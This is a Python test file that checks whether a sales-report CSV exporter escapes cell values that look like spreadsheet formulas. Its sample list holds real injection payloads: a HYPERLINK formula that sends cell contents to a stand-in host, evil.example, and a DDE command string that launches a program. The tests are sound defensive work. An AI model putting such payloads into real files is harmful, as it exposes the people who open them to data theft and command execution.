"""Names in a report CSV never run as spreadsheet formulas."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from domain.insight.report_files import sales_csv
from domain.insight.sales import Figures, SalesQuery, SalesReport, SalesRow
from domain.shared.spreadsheet import from_cell, to_cell

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&B2,"查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def report(label: str) -> SalesReport:
    figures = Figures(Decimal("-12.00"), 1, 2)
    query = SalesQuery(date(2026, 6, 1), date(2026, 6, 30), by="company")
    row = SalesRow("7", label, figures)
    return SalesReport(
        query, [row], figures, date(2026, 5, 1), date(2026, 5, 31), figures,
        date(2025, 6, 1), date(2025, 6, 30), figures, None,
    )  # fmt: skip


def cells(data: bytes) -> list[str]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_looks_like_a_formula_is_quoted_as_text(name):
    row = cells(sales_csv(report(name), "en"))

    assert row[1] == "'" + name


def test_plain_names_and_negative_figures_stay_as_they_are():
    row = cells(sales_csv(report("上海华东 Trading"), "en"))

    assert row[:3] == ["7", "上海华东 Trading", "-12.00"]


@pytest.mark.parametrize("value", ["=1", "'=1", "''=1", "'", "'abc", "-", "", "a=1", "\t@x"])
def test_quoting_a_cell_is_undone_exactly(value):
    assert from_cell(to_cell(value)) == value
    assert not to_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))
